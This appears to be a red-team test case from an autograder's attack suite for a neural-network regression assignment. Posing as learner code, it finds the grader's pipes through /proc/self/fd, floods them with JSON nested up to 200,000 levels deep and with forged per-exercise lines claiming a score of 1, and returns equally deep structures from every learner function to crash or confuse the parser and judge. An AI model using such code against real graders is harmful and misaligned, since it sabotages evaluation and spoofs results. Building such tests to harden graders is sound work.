"""(a) Hostile JSON shapes in the output channel and in returned values: arrays nested 1,000 and 200,000
deep, written as lines (early and during calls) and returned by every learner function."""

from tests.attacks._common import prelude

ASSIGNMENT = "regression"
GOAL = "Crash or confuse the grader's parser and judge with JSON nested 1,000 and 200,000 levels deep (written and returned)."
WITH_SOLUTION = False
POSITION = "start"

CODE = prelude(ASSIGNMENT) + r'''
import json as _rt_json, threading as _rt_threading
_RT_DEEP = {}
for _rt_n in (1000, 200000):
    _RT_DEEP[_rt_n] = "[" * _rt_n + "1.0" + "]" * _rt_n
_RT_NAMES = ["forward", "backward", "update", "train", "output_weights", "output_bias", "hidden_weights",
             "hidden_biases", "test_forward", "test_train"]


def _rt_lines():
    out = []
    for n, deep in _RT_DEEP.items():
        out.append(deep)
        for ex in _RT_NAMES:
            out.append('{"exercise": "%s", "value": %s, "returned": %s, "score": 1}' % (ex, deep, deep))
        out.append('{"a":' * n + "1" + "}" * n)
    return ("\n".join(out) + "\n").encode()


def _rt_pipes():
    out = []
    for fd in range(3, 256):
        try:
            if _rt_os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                out.append(fd)
        except OSError:
            pass
    return out


_rt_done = [0]


def _rt_write(tag):
    if _rt_done[0] > 6:
        return
    _rt_done[0] += 1
    data = _rt_lines()
    def go():
        for fd in _rt_pipes():
            try:
                _rt_os.write(fd, data)
            except OSError as exc:
                _rt_note("write", fd, exc)
    t = _rt_threading.Thread(target=go, daemon=True)
    t.start()
    t.join(5)
    _rt_note("wrote", len(data), "bytes of nested JSON", tag)


_rt_write("early")
_rt_hooks.append(lambda name: _rt_write("call " + name))


def _rt_nest(n):
    x = [1.0]
    for _ in range(n):
        x = [x]
    return x


_RT_N1, _RT_N2 = _rt_nest(1000), _rt_nest(200000)
_RT_D = {}
_rt_d = _RT_D
for _ in range(1000):
    _rt_d["k"] = {}
    _rt_d = _rt_d["k"]
'''

# the learner's functions, defined after the release's stubs: each returns something absurdly deep
CODE_END = r'''
def forward(x, params):
    return _RT_N2, {"x": _RT_N1, "z1": _RT_N2, "h": _RT_D, "z2": _RT_N1}


def backward(y, y_hat, cache, params):
    return {"W1": _RT_N2, "b1": _RT_N1, "W2": _RT_D, "b2": _RT_N2}


def update(params, grads, lr):
    return {"W1": _RT_N1, "b1": _RT_N2, "W2": _RT_N2, "b2": _RT_D}


def train(X, y, params, lr, epochs):
    return _RT_N2, {"W1": _RT_N2, "b1": _RT_N1, "W2": _RT_D, "b2": _RT_N1}
'''
